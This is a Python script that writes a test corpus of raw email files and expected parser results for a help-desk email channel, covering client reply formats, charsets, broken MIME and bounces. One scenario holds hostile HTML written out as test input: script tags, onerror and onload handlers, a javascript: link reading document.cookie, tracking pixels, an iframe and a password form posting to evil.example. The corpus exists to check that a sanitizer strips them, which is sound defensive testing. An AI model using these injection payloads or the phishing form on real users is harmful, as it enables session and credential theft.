# ruff: noqa: E501, RUF001, RUF003 — test data: long literal mails, typographic characters on purpose
"""Write the scenario corpus: `<name>.eml` + `<name>.expected.json` (both committed).

    .venv/bin/python comptoir/channels/email/tests/corpus/make_corpus.py

The mails are written here as bytes on purpose (8-bit headers, wrong labels, broken MIME),
which an email library would "fix" on the way out. The expectations are written by hand from
what a person reading the mail would want, not from the parser's output. Fields of
`expected.json` are described in test_corpus.py.
"""

from __future__ import annotations

import base64
import binascii
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
SCENARIOS: dict[str, tuple[bytes, dict]] = {}


def scenario(name: str, raw: str | bytes, **expected: object) -> None:
    if isinstance(raw, str):
        raw = raw.encode("utf-8")
    raw = raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    SCENARIOS[name] = (raw, expected)


def head(
    *,
    subject: str = "Question",
    from_: str = "Claire Dubois <claire.dubois@example.fr>",
    mid: str = "<CAF1.2025@mail.example.fr>",
    extra: str = "",
) -> str:
    return (
        "Return-Path: <claire.dubois@example.fr>\n"
        "Received: from mx.example.fr (mx.example.fr [203.0.113.5])\n"
        "\tby mail.desk.example (Postfix) with ESMTPS id 4Z1\n"
        "\tfor <support@desk.example>; Mon, 03 Mar 2025 10:05:00 +0100 (CET)\n"
        f"From: {from_}\n"
        "To: Support <support@desk.example>\n"
        f"Subject: {subject}\n"
        "Date: Mon, 03 Mar 2025 10:05:00 +0100\n"
        f"Message-ID: {mid}\n"
        "MIME-Version: 1.0\n" + extra
    )


def alt(text: str, html: str, charset: str = "utf-8", boundary: str = "000000000000alt") -> str:
    return (
        f'Content-Type: multipart/alternative; boundary="{boundary}"\n\n'
        f'--{boundary}\nContent-Type: text/plain; charset="{charset}"\n'
        "Content-Transfer-Encoding: 8bit\n\n"
        f'{text}\n--{boundary}\nContent-Type: text/html; charset="{charset}"\n'
        f"Content-Transfer-Encoding: 8bit\n\n{html}\n--{boundary}--\n"
    )


PLAIN = "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
REPLY_HDRS = (
    "In-Reply-To: <ticket-1042.ab12@desk.example>\nReferences: <ticket-1042.ab12@desk.example>\n"
)
PIXEL_BYTES = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
PIXEL = base64.b64encode(PIXEL_BYTES).decode()

# --- replies from the usual clients (case 19) --------------------------------------------

scenario(
    "gmail_fr_reply",
    head(subject="Re: Commande 1042 [#1042-ab12cd34]", extra=REPLY_HDRS)
    + alt(
        "Bonjour,\n\nLe colis n'est toujours pas arrivé, pouvez-vous vérifier ?\n\nClaire\n\n"
        "Le lun. 3 mars 2025 à 09:12, Support Comptoir <support@desk.example> a écrit :\n\n"
        "> Bonjour Claire,\n>\n> Votre colis est parti ce matin.\n>\n",
        '<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Le colis n\'est toujours pas '
        "arrivé, pouvez-vous vérifier ?</div><div><br></div><div>Claire</div></div><br>"
        '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">Le lun. '
        '3 mars 2025 à 09:12, Support Comptoir &lt;<a href="mailto:support@desk.example">'
        'support@desk.example</a>&gt; a écrit&nbsp;:<br></div><blockquote class="gmail_quote" '
        'style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
        "Bonjour Claire,<br><br>Votre colis est parti ce matin.</blockquote></div>",
    ),
    subject="Re: Commande 1042 [#1042-ab12cd34]",
    from_email="claire.dubois@example.fr",
    from_name="Claire Dubois",
    message_id="caf1.2025@mail.example.fr",
    in_reply_to=["ticket-1042.ab12@desk.example"],
    references=["ticket-1042.ab12@desk.example"],
    visible_contains=["toujours pas arrivé"],
    visible_not_contains=["Votre colis est parti", "a écrit"],
    visible_html_not_contains=["Votre colis est parti"],
    body_text_contains=["Votre colis est parti"],
    html_contains=["Votre colis est parti"],
)

scenario(
    "gmail_en_reply",
    head(subject="Re: Refund request", from_="Bob Smith <Bob.Smith@Example.COM>", extra=REPLY_HDRS)
    + alt(
        "Thanks, but I never received the refund.\n\n"
        "On Mon, Mar 3, 2025 at 9:12 AM Support Comptoir <support@desk.example>\nwrote:\n\n"
        "> Hello Bob,\n> The refund was issued yesterday.\n",
        '<div dir="ltr">Thanks, but I never received the refund.</div><br><div class="gmail_quote">'
        '<div dir="ltr" class="gmail_attr">On Mon, Mar 3, 2025 at 9:12 AM Support Comptoir &lt;'
        'support@desk.example&gt; wrote:<br></div><blockquote class="gmail_quote">Hello Bob,<br>'
        "The refund was issued yesterday.</blockquote></div>",
    ),
    subject="Re: Refund request",
    from_email="bob.smith@example.com",
    from_name="Bob Smith",
    visible_contains=["never received the refund"],
    visible_not_contains=["issued yesterday", "wrote:"],
    visible_html_not_contains=["issued yesterday"],
)

scenario(
    "outlook_fr_reply",
    head(
        subject="RE: Facture de février",
        from_='"Martin, Paul" <p.martin@entreprise.fr>',
        extra=REPLY_HDRS,
    )
    + alt(
        "Bonjour,\n\nJe joins la facture corrigée.\n\nBien cordialement,\nPaul Martin\n"
        "Service comptabilité\n\n"
        "De\u00a0: Support Comptoir <support@desk.example>\nEnvoyé\u00a0: lundi 3 mars 2025 09:12\n"
        "À\u00a0: Martin, Paul <p.martin@entreprise.fr>\nObjet\u00a0: Facture de février\n\n"
        "Bonjour, il manque le numéro de TVA.\n",
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>'
        'p.MsoNormal{margin:0}</style></head><body><div class="WordSection1"><p class="MsoNormal">'
        'Bonjour,</p><p class="MsoNormal">Je joins la facture corrigée.</p></div>'
        '<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
        '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri"><b>De&nbsp;:</b> Support Comptoir'
        " &lt;support@desk.example&gt;<br><b>Envoyé&nbsp;:</b> lundi 3 mars 2025 09:12<br><b>À&nbsp;:"
        "</b> Martin, Paul<br><b>Objet&nbsp;:</b> Facture de février</font></div><div>Bonjour, il "
        "manque le numéro de TVA.</div></body></html>",
    ),
    from_email="p.martin@entreprise.fr",
    from_name="Martin, Paul",
    visible_contains=["facture corrigée"],
    visible_not_contains=["numéro de TVA", "Envoyé", "Service comptabilité"],
    visible_html_not_contains=["numéro de TVA", "divRplyFwdMsg"],
    body_text_contains=["numéro de TVA"],
)

scenario(
    "outlook_en_reply",
    head(subject="RE: Password reset", from_="Dana Lee <dana@corp.example>", extra=REPLY_HDRS)
    + PLAIN
    + "It still does not work on my laptop.\n\nDana\n\n-----Original Message-----\n"
    "From: Support Comptoir [mailto:support@desk.example]\nSent: Monday, March 3, 2025 9:12 AM\n"
    "To: Dana Lee <dana@corp.example>\nSubject: Password reset\n\nPlease try again now.\n",
    from_email="dana@corp.example",
    visible_contains=["still does not work"],
    visible_not_contains=["Please try again now", "Original Message"],
)

scenario(
    "outlook_desktop_border",
    head(subject="RE: Devis", from_="Luc Bernard <luc@bernard.example>", extra=REPLY_HDRS)
    + "Content-Type: text/html; charset=windows-1252\nContent-Transfer-Encoding: quoted-printable\n\n"
    "<html><body><div class=3DWordSection1><p class=3DMsoNormal>Le devis me convient, merci.=\n"
    "</p><p class=3DMsoNormal>&nbsp;</p><div><div style=3D'border:none;border-top:solid #E1E1E1 1.0pt;"
    "padding:3.0pt 0cm 0cm 0cm'><p class=3DMsoNormal><b>De&nbsp;:</b> Support &lt;support@desk.example&gt;"
    "<br><b>Envoy=E9&nbsp;:</b> lundi 3 mars 2025 09:12<br><b>Objet&nbsp;:</b> Devis</p></div></div>"
    "<p class=3DMsoNormal>Voici le devis demand=E9 : 1 200 =80.</p></div></body></html>\n",
    from_email="luc@bernard.example",
    visible_contains=["Le devis me convient"],
    visible_not_contains=["Voici le devis"],
    body_text_contains=["1 200 €", "Voici le devis demandé"],
)

scenario(
    "apple_mail_fr",
    head(
        subject="Re: Retour produit",
        from_="=?utf-8?q?Zo=C3=AB_Faure?= <zoe@icloud.example>",
        extra=REPLY_HDRS,
    )
    + alt(
        "Parfait, je renvoie le produit demain.\n\nZoë\n\n"
        "> Le 3 mars 2025 à 09:12, Support Comptoir <support@desk.example> a écrit :\n>\n"
        "> Vous pouvez renvoyer le produit.\n",
        '<html><body dir="auto">Parfait, je renvoie le produit demain.<div><br></div><div>Zoë<br>'
        '<div><br><blockquote type="cite"><div>Le 3 mars 2025 à 09:12, Support Comptoir &lt;'
        'support@desk.example&gt; a écrit :</div><br class="Apple-interchange-newline"><div>'
        "Vous pouvez renvoyer le produit.</div></blockquote></div></div></body></html>",
    ),
    from_email="zoe@icloud.example",
    from_name="Zoë Faure",
    visible_contains=["je renvoie le produit demain"],
    visible_not_contains=["Vous pouvez renvoyer"],
    visible_html_not_contains=["Vous pouvez renvoyer"],
)

scenario(
    "thunderbird_en",
    head(subject="Re: Broken link", from_="Ann <ann@tb.example>", extra=REPLY_HDRS)
    + alt(
        "The link in your mail is broken.\n\nOn 03/03/2025 09:12, Support Comptoir wrote:\n"
        "> Please follow this link.\n",
        '<html><body><p>The link in your mail is broken.</p><div class="moz-cite-prefix">On '
        '03/03/2025 09:12, Support Comptoir wrote:<br></div><blockquote type="cite" '
        'cite="mid:ticket-1042.ab12@desk.example">Please follow this link.</blockquote></body></html>',
    ),
    visible_contains=["link in your mail is broken"],
    visible_not_contains=["Please follow this link", "wrote:"],
    visible_html_not_contains=["Please follow this link", "wrote:"],
)

scenario(
    "iphone_fr",
    head(subject="Re: Rendez-vous", from_="Marc <marc@orange.example>", extra=REPLY_HDRS)
    + PLAIN
    + "Mardi 14h me va très bien.\n\nEnvoyé de mon iPhone\n\n"
    "> Le 3 mars 2025 à 09:12, Support Comptoir <support@desk.example> a écrit :\n>\n"
    "> Quel créneau vous convient ?\n",
    visible_contains=["Mardi 14h"],
    visible_not_contains=["Envoyé de mon iPhone", "Quel créneau"],
    body_text_contains=["Envoyé de mon iPhone"],
)

scenario(
    "yahoo_reply",
    head(subject="Re: Abonnement", from_="Jo <jo@yahoo.example>", extra=REPLY_HDRS)
    + "Content-Type: text/html; charset=utf-8\n\n"
    '<html><body><div class="ydp1"><div>Je souhaite résilier mon abonnement.</div></div>'
    '<div id="ydp2yahoo_quoted_123" class="ydp2yahoo_quoted"><div style="font-size:13px">'
    "<div>Le lundi 3 mars 2025, 09:12:00 UTC+1, Support Comptoir &lt;support@desk.example&gt; a "
    "écrit :</div><div>Votre abonnement est actif.</div></div></div></body></html>\n",
    visible_contains=["résilier mon abonnement"],
    visible_not_contains=["abonnement est actif"],
    visible_html_not_contains=["abonnement est actif"],
    text_contains=["abonnement est actif"],
)

scenario(
    "message_d_origine_fr",
    head(subject="RE: Livraison", from_="Eve <eve@laposte.example>", extra=REPLY_HDRS)
    + PLAIN
    + "Je serai absente jeudi, merci de livrer vendredi.\n\nCordialement,\nEve Durand\n\n"
    "-------- Message d'origine --------\nDe : Support Comptoir <support@desk.example>\n"
    "Date : 03/03/2025 09:12\nÀ : eve@laposte.example\nObjet : Livraison\n\nLivraison prévue jeudi.\n",
    visible_contains=["livrer vendredi"],
    visible_not_contains=["Livraison prévue jeudi", "Cordialement", "Message d'origine"],
)

scenario(
    "forward_gmail",
    head(subject="Fwd: Erreur de facturation", from_="Claire Dubois <claire.dubois@example.fr>")
    + PLAIN
    + "Voir ci-dessous, c'est la deuxième fois.\n\n---------- Forwarded message ---------\n"
    "From: Billing <billing@shop.example>\nDate: Sun, Mar 2, 2025 at 8:00 AM\n"
    "Subject: Erreur de facturation\nTo: <claire.dubois@example.fr>\n\n"
    "Votre carte a été débitée deux fois.\n",
    visible_contains=["deuxième fois", "débitée deux fois"],
)

# --- bodies (case 18) ---------------------------------------------------------------------

scenario(
    "text_only",
    head(subject="Simple question") + PLAIN + "Bonjour,\n\nQuels sont vos horaires ?\n\nMerci\n",
    visible_contains=["Quels sont vos horaires"],
    body_html_empty=True,
)

scenario(
    "html_only",
    head(subject="Question HTML") + "Content-Type: text/html; charset=utf-8\n\n"
    "<html><body><h1>Bonjour</h1><p>Ma commande <b>n°1042</b> est incomplète.</p>"
    "<ul><li>Article A</li><li>Article B</li></ul></body></html>\n",
    visible_contains=["Ma commande n°1042 est incomplète", "Article B"],
    body_text_contains=["Article A"],
    html_contains=["<b>n°1042</b>", "<li>"],
)

scenario(
    "both_disagreeing",
    head(subject="Deux versions")
    + alt(
        "Version texte : je veux annuler.\n",
        "<p>Version HTML : je veux <b>modifier</b>.</p>",
    ),
    visible_contains=["Version texte"],
    body_text_contains=["Version texte"],
    html_contains=["Version HTML"],
)

# --- charsets (cases 11, 12) --------------------------------------------------------------

scenario(
    "no_charset_8bit",
    b"From: Ren\xe9 Leclerc <rene@example.fr>\nTo: support@desk.example\n"
    b"Subject: Probl\xe8me de connexion\nDate: Mon, 03 Mar 2025 10:05:00 +0100\n"
    b"Message-ID: <nocharset@example.fr>\nContent-Type: text/plain\n\n"
    b"Je n'arrive plus \xe0 me connecter depuis mardi. \x80 20 d\xe9bit\xe9s.\n",
    subject="Problème de connexion",
    from_name="René Leclerc",
    from_email="rene@example.fr",
    visible_contains=["arrive plus à me connecter", "€ 20 débités"],
    defects_nonempty=True,
)

scenario(
    "wrong_charset_labels",
    head(subject="=?utf8?Q?Caf=C3=A9_?= =?unknown-8bit?Q?cr=E8me?=")
    + 'Content-Type: multipart/mixed; boundary="b"\n\n'
    '--b\nContent-Type: text/plain; charset="utf8"\nContent-Transfer-Encoding: 8bit\n\n'
    "Premier: déjà vu\n"
    "--b\nContent-Type: text/plain; charset=x-user-defined\nContent-Transfer-Encoding: quoted-printable\n\n"
    "Deuxi=E8me: =E9t=E9\n"
    "--b\nContent-Type: text/plain; charset=cp-850\nContent-Transfer-Encoding: quoted-printable\n\n"
    "Troisi=8Ame: gar=87on\n"
    "--b\nContent-Type: text/plain; charset=base64\nContent-Transfer-Encoding: 8bit\n\n"
    "Quatri\xe8me: no\xebl\n--b--\n",
    subject="Café crème",
    visible_contains=["déjà vu", "Deuxième: été", "Troisième: garçon", "Quatrième: noël"],
    defects_nonempty=True,
)

scenario(
    "gb18030",
    head(
        subject="=?gb18030?B?1tDOxLLiytQ=?=", from_="=?GB2312?B?wO7Dtw==?= <li@example.cn>"
    ).encode("ascii")
    + b"Content-Type: text/plain; charset=GB18030\nContent-Transfer-Encoding: 8bit\n\n"
    + "你好，我的订单还没有到。€\n".encode("gb18030"),
    subject="中文测试",
    from_name="李梅",
    visible_contains=["我的订单还没有到", "€"],
)

scenario(
    "iso_8859_15_euro",
    head(subject="=?ISO-8859-15?Q?Remboursement_de_50_=A4?=").encode("ascii")
    + b"Content-Type: text/plain; charset=ISO-8859-15\nContent-Transfer-Encoding: 8bit\n\n"
    + "Merci de rembourser 50 € sur ma carte. Œuvre, çà.\n".encode("iso-8859-15"),
    subject="Remboursement de 50 €",
    visible_contains=["50 € sur ma carte", "Œuvre"],
)

scenario(
    "windows_1252_smart_quotes",
    head(subject="=?windows-1252?Q?=93Devis=94_=96_urgent?=").encode("ascii")
    + b"Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n\n"
    + "L’offre «\u00a0premium\u00a0» coûte 30 € — c’est ça ?\n".encode("cp1252"),
    subject="“Devis” – urgent",
    visible_contains=["L’offre", "30 €", "c’est ça"],
)

scenario(
    "rfc2047_split_malformed",
    head(
        subject="=?UTF-8?B?UsOpY2xhbWF0aW9uIDog?= =?UTF-8?B?w6k=?=\n =?UTF-8?Q?t=C3?= =?UTF-8?Q?=A9_br=C3=BBl=C3=A9?=",
        from_="=?utf-8?B?SsOpcsO0bWU=?= Martin <jerome@example.fr>",
    )
    + PLAIN
    + "Texte.\n",
    subject="Réclamation : été brûlé",
    from_name="Jérôme Martin",
)

scenario(
    "rfc2047_bad_padding",
    head(subject="=?utf-8?B?w6lsw6h2ZQ?= =?utf-8?Q?_et_=ZZ_mal?= =?nope?X?abc?=")
    + PLAIN
    + "Texte.\n",
    subject="élève et =ZZ mal =?nope?X?abc?=",
)

scenario(
    "long_folded_subject",
    head(subject="Re: " + "\n ".join(["Demande de remboursement suite à la commande"] * 8))
    + PLAIN
    + "Texte.\n",
    subject="Re: " + " ".join(["Demande de remboursement suite à la commande"] * 8),
)

# --- addresses (case 15) ------------------------------------------------------------------

scenario(
    "missing_from",
    "To: support@desk.example\nSubject: Sans expediteur\nMessage-ID: <nofrom@example.org>\n"
    "Date: Mon, 03 Mar 2025 10:05:00 +0100\n" + PLAIN + "Qui suis-je ?\n",
    from_email="",
    defects_nonempty=True,
    visible_contains=["Qui suis-je"],
)

scenario(
    "duplicated_from",
    "From: First <first@example.org>\nFrom: Second <second@example.org>\n"
    "To: support@desk.example\nSubject: Deux From\nMessage-ID: <twofrom@example.org>\n"
    + PLAIN
    + "x\n",
    from_email="first@example.org",
    from_name="First",
    defects_nonempty=True,
)

scenario(
    "invalid_from",
    "From: Not an address at all\nTo: support@desk.example, <also bad>, ok@desk.example\n"
    "Subject: Invalide\nMessage-ID: <invalidfrom@example.org>\n" + PLAIN + "x\n",
    from_email="",
    defects_nonempty=True,
    to=["support@desk.example", "ok@desk.example"],
)

scenario(
    "reply_to_differs",
    head(extra="Reply-To: Achats <Achats@Entreprise.example>, compta@entreprise.example\n")
    + PLAIN
    + "x\n",
    from_email="claire.dubois@example.fr",
    reply_to=["achats@entreprise.example", "compta@entreprise.example"],
)

scenario(
    "message_id_messy",
    "From: a@example.org\nTo: support@desk.example\nSubject: ids\n"
    "Message-ID:\n <Mixed.Case.ID@Example.ORG>\n"
    "In-Reply-To: <ticket-7.x@desk.example> (Support's message of Mon, 3 Mar)\n"
    "References: <root@desk.example>\n\t<mid1@desk.example>  <mid2@desk.example>\n" + PLAIN + "x\n",
    message_id="mixed.case.id@example.org",
    in_reply_to=["ticket-7.x@desk.example"],
    references=["root@desk.example", "mid1@desk.example", "mid2@desk.example"],
)

scenario(
    "references_overflow",
    "From: a@example.org\nTo: support@desk.example\nSubject: many refs\nMessage-ID: <many@x>\n"
    "References: "
    + "\n ".join(f"<ref{i}@desk.example>" for i in range(120))
    + "\n"
    + PLAIN
    + "x\n",
    references=["ref0@desk.example"] + [f"ref{i}@desk.example" for i in range(70, 120)],
    defects_nonempty=True,
)

# --- MIME structure (cases 16, 17) --------------------------------------------------------

scenario(
    "multipart_without_boundary",
    head(subject="Sans boundary") + "Content-Type: multipart/mixed\n\n"
    "Le texte doit rester lisible malgré tout.\n",
    visible_contains=["Le texte doit rester lisible"],
    defects_nonempty=True,
)

scenario(
    "truncated_last_boundary",
    head(subject="Tronqué") + 'Content-Type: multipart/mixed; boundary="XX"\n\n'
    "--XX\n" + PLAIN + "Le corps est là.\n--XX\n"
    'Content-Type: application/pdf; name="devis.pdf"\nContent-Disposition: attachment; filename="devis.pdf"\n'
    "Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n",
    visible_contains=["Le corps est là"],
    attachments=[
        {"filename": "devis.pdf", "content_type": "application/pdf", "size": 9, "inline": False}
    ],
    defects_nonempty=True,
)


def _nested(depth: int) -> str:
    out = head(subject="Profond")
    for i in range(depth):
        out += f'Content-Type: multipart/mixed; boundary="n{i}"\n\n--n{i}\n'
    out += PLAIN + "Tout au fond.\n"
    for i in reversed(range(depth)):
        out += f"--n{i}--\n"
    return out


scenario(
    "deep_nesting",
    _nested(40),
    defects_nonempty=True,
    visible_contains=["Tout au fond"],
    visible_not_contains=["--n39"],
)
scenario("moderate_nesting", _nested(8), visible_contains=["Tout au fond"])

scenario(
    "uuencoded",
    head(subject="uuencode")
    + PLAIN
    + "Voici le fichier.\n\nbegin 644 note.txt\n"
    + binascii.b2a_uu(b"hello world").decode()
    + "`\nend\n",
    visible_contains=["Voici le fichier"],
    visible_not_contains=["begin 644"],
    attachments=[
        {"filename": "note.txt", "content_type": "text/plain", "size": 11, "inline": False}
    ],
)

scenario(
    "winmail_dat",
    head(subject="Outlook RTF")
    + 'Content-Type: multipart/mixed; boundary="w"\n\n--w\n'
    + PLAIN
    + 'Pièce jointe Outlook.\n--w\nContent-Type: application/ms-tnef; name="winmail.dat"\n'
    'Content-Disposition: attachment; filename="winmail.dat"\nContent-Transfer-Encoding: base64\n\n'
    + base64.b64encode(b"\x78\x9f\x3e\x22" + b"\x00" * 60).decode()
    + "\n--w--\n",
    attachments=[
        {
            "filename": "winmail.dat",
            "content_type": "application/ms-tnef",
            "size": 64,
            "inline": False,
        }
    ],
)

scenario(
    "attached_message",
    head(subject="Fwd: ancien échange")
    + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\n'
    + PLAIN
    + "Je vous transfère le message en pièce jointe.\n--m\nContent-Type: message/rfc822\n"
    'Content-Disposition: attachment; filename="original.eml"\n\n'
    "From: Other <other@example.org>\nTo: claire.dubois@example.fr\nSubject: Ancien\n"
    "Message-ID: <old@example.org>\n\nTEXTE DU MESSAGE JOINT\n--m--\n",
    visible_contains=["transfère le message"],
    visible_not_contains=["TEXTE DU MESSAGE JOINT"],
    body_text_not_contains=["TEXTE DU MESSAGE JOINT"],
    attachments=[{"filename": "original.eml", "content_type": "message/rfc822", "inline": False}],
    is_bounce=False,
)

scenario(
    "inline_cid_image",
    head(subject="Capture") + 'Content-Type: multipart/related; boundary="r"\n\n--r\n'
    "Content-Type: text/html; charset=utf-8\n\n"
    '<p>Voici l\'erreur :</p><p><img src="cid:image001.png@01DB8C" alt="capture"></p>\n--r\n'
    'Content-Type: image/png; name="image001.png"\nContent-Disposition: inline; filename="image001.png"\n'
    "Content-ID: <image001.png@01DB8C>\nContent-Transfer-Encoding: base64\n\n"
    + PIXEL
    + "\n--r--\n",
    attachments=[
        {
            "filename": "image001.png",
            "content_type": "image/png",
            "size": len(PIXEL_BYTES),
            "inline": True,
            "content_id": "image001.png@01DB8C",
        }
    ],
    html_contains=['src="cid:image001.png@01DB8C"'],
)

scenario(
    "empty_attachment",
    head(subject="Vide")
    + 'Content-Type: multipart/mixed; boundary="e"\n\n--e\n'
    + PLAIN
    + "Fichier vide joint.\n"
    '--e\nContent-Type: text/csv; name="vide.csv"\nContent-Disposition: attachment; filename="vide.csv"\n\n'
    "\n--e--\n",
    attachments=[{"filename": "vide.csv", "content_type": "text/csv", "size": 0, "inline": False}],
)

scenario(
    "rfc2231_filename",
    head(subject="Nom long")
    + 'Content-Type: multipart/mixed; boundary="f"\n\n--f\n'
    + PLAIN
    + "Ci-joint.\n"
    "--f\nContent-Type: application/pdf\nContent-Disposition: attachment;\n"
    " filename*0*=UTF-8''Facture%20d%C3%A9taill%C3%A9e%20;\n filename*1*=%E2%82%AC%20mars.pdf\n"
    "Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n"
    '--f\nContent-Type: image/jpeg; name="=?utf-8?Q?re=C3=A7u_sign=C3=A9.jpg?="\n'
    "Content-Transfer-Encoding: base64\n\n/9j/4AAQ\n--f--\n",
    attachments=[
        {
            "filename": "Facture détaillée € mars.pdf",
            "content_type": "application/pdf",
            "size": 9,
            "inline": False,
        },
        {"filename": "reçu signé.jpg", "content_type": "image/jpeg", "size": 6, "inline": False},
    ],
)

# --- hostile HTML (cases 32, 35) ----------------------------------------------------------

scenario(
    "malicious_html",
    head(
        subject='<script>alert("subject")</script>',
        from_='"<img src=x onerror=alert(1)>" <evil@example.net>',
    )
    + "Content-Type: text/html; charset=utf-8\n\n"
    "<html><head><style>body{background:url(http://tracker.example/css.gif)}</style>"
    "<script>document.location='http://evil.example'</script></head><body onload=\"steal()\">"
    "<p>Bonjour, voici ma demande.</p>"
    '<img src="http://tracker.example/open.gif?id=42" width="1" height="1">'
    '<img src="x" onerror="alert(1)">'
    '<a href="javascript:alert(document.cookie)">cliquez</a>'
    '<a href="https://legit.example/doc">document</a>'
    '<svg onload="alert(1)"><script>alert(2)</script></svg>'
    '<div style="background-image:url(http://tracker.example/bg.png)">fond</div>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example"><input name="password"></form>'
    "</body></html>\n",
    subject='<script>alert("subject")</script>',
    visible_contains=["voici ma demande"],
    html_not_contains=[
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "http://tracker",
        "<svg",
        "<iframe",
        "url(",
        "<form",
        "<input",
        "evil.example",
    ],
    html_contains=[
        'rel="noopener noreferrer nofollow"',
        'target="_blank"',
        "https://legit.example/doc",
    ],
)

# --- bounces and automatic mail (cases 23–27 feed on this) --------------------------------

scenario(
    "dsn_postfix",
    "Return-Path: <>\nFrom: MAILER-DAEMON@mail.desk.example (Mail Delivery System)\n"
    "To: support@desk.example\nSubject: Undelivered Mail Returned to Sender\n"
    "Date: Mon, 03 Mar 2025 10:06:00 +0100\nMessage-ID: <20250303090600.1A2B3@mail.desk.example>\n"
    "Auto-Submitted: auto-replied\nMIME-Version: 1.0\n"
    'Content-Type: multipart/report; report-type=delivery-status; boundary="D1"\n\n'
    "--D1\nContent-Description: Notification\nContent-Type: text/plain; charset=us-ascii\n\n"
    "This is the mail system at host mail.desk.example.\n\nI'm sorry to have to inform you that "
    "your message could not\nbe delivered to one or more recipients.\n\n<nobody@example.org>: host "
    "mx.example.org said: 550 5.1.1 User unknown\n\n"
    "--D1\nContent-Description: Delivery report\nContent-Type: message/delivery-status\n\n"
    "Reporting-MTA: dns; mail.desk.example\nX-Postfix-Queue-ID: 1A2B3\n"
    "Arrival-Date: Mon,  3 Mar 2025 10:05:58 +0100 (CET)\n\n"
    "Final-Recipient: rfc822; Nobody@Example.org\nOriginal-Recipient: rfc822;nobody@example.org\n"
    "Action: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.example.org\n"
    "Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: Recipient address\n    rejected: User unknown\n\n"
    "--D1\nContent-Description: Undelivered Message Headers\nContent-Type: text/rfc822-headers\n\n"
    "From: Support <support@desk.example>\nTo: nobody@example.org\nSubject: Votre demande [#1042-ab12cd34]\n"
    "Message-ID: <Out.1042.XYZ@desk.example>\n\n--D1--\n",
    from_email="mailer-daemon@mail.desk.example",
    is_bounce=True,
    bounce={
        "original_message_id": "out.1042.xyz@desk.example",
        "status": "5.1.1",
        "action": "failed",
        "failed_recipients": ["nobody@example.org"],
        "diagnostic_contains": "User unknown",
    },
    headers={"auto-submitted": "auto-replied", "return-path": "<>"},
)

scenario(
    "bounce_exim_nonstandard",
    "Return-Path: <>\nFrom: Mail Delivery System <Mailer-Daemon@mx.isp.example>\n"
    "To: support@desk.example\nSubject: Mail delivery failed: returning message to sender\n"
    "Message-ID: <E1tXYZ@mx.isp.example>\nX-Failed-Recipients: gone@isp.example\n"
    "Auto-Submitted: auto-replied\nDate: Mon, 03 Mar 2025 10:06:00 +0100\n"
    + PLAIN
    + "This message was created automatically by mail delivery software.\n\n"
    "A message that you sent could not be delivered to one or more of its\nrecipients. This is a "
    "permanent error. The following address(es) failed:\n\n  gone@isp.example\n"
    "    host mx.isp.example [198.51.100.7]\n    SMTP error from remote mail server after RCPT TO:"
    "<gone@isp.example>:\n    550 5.1.1 No such user\n\n------ This is a copy of the message, including "
    "all the headers. ------\n\nFrom: Support <support@desk.example>\nTo: gone@isp.example\n"
    "Subject: Votre demande\nMessage-ID: <out.77@desk.example>\n\nBonjour\n",
    is_bounce=True,
    bounce={
        "original_message_id": "out.77@desk.example",
        "status": "5.1.1",
        "action": "failed",
        "failed_recipients": ["gone@isp.example"],
    },
)

scenario(
    "bounce_exchange_non_remis",
    "From: Microsoft Outlook <postmaster@entreprise.example>\nTo: support@desk.example\n"
    "Subject: =?utf-8?Q?Non_remis=C2=A0:_Votre_demande?=\nMessage-ID: <ndr.1@entreprise.example>\n"
    "Date: Mon, 03 Mar 2025 10:06:00 +0100\n"
    'Content-Type: multipart/mixed; boundary="ndr"\n\n--ndr\n'
    + PLAIN
    + "Votre message n'a pas pu être remis à ces destinataires :\n\nabsent@entreprise.example\n"
    "Remote Server returned '550 5.4.1 Recipient address rejected: Access denied'\n"
    "--ndr\nContent-Type: message/rfc822\n\nFrom: Support <support@desk.example>\n"
    "To: absent@entreprise.example\nSubject: Votre demande\nMessage-ID: <out.88@desk.example>\n\nBonjour\n--ndr--\n",
    is_bounce=True,
    bounce={
        "original_message_id": "out.88@desk.example",
        "status": "5.4.1",
        "action": "failed",
        "failed_recipients": ["absent@entreprise.example"],
    },
)

scenario(
    "out_of_office",
    head(
        subject="Réponse automatique : Votre demande",
        extra="Auto-Submitted: auto-replied\nX-Auto-Response-Suppress: All\nPrecedence: bulk\n",
    )
    + PLAIN
    + "Je suis absente jusqu'au 10 mars.\n",
    is_bounce=False,
    headers={
        "auto-submitted": "auto-replied",
        "x-auto-response-suppress": "All",
        "precedence": "bulk",
    },
    visible_contains=["absente jusqu'au 10 mars"],
)

scenario(
    "mailing_list",
    head(
        subject="[users] Nouvelle version",
        extra="List-Id: Users list <users.lists.example.org>\nPrecedence: list\n"
        "List-Unsubscribe: <mailto:users-leave@lists.example.org>\n"
        "X-Comptoir-Ticket: 999\nX-Comptoir-Auto: no\n",
    )
    + PLAIN
    + "La version 2.0 est sortie.\n",
    headers={
        "list-id": "Users list <users.lists.example.org>",
        "precedence": "list",
        "list-unsubscribe": "<mailto:users-leave@lists.example.org>",
        "x-comptoir-ticket": "999",
        "x-comptoir-auto": "no",
    },
)


def main() -> None:
    for old in HERE.glob("*.eml"):
        old.unlink()
    for old in HERE.glob("*.expected.json"):
        old.unlink()
    for name, (raw, expected) in SCENARIOS.items():
        (HERE / f"{name}.eml").write_bytes(raw)
        (HERE / f"{name}.expected.json").write_text(
            json.dumps(expected, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )
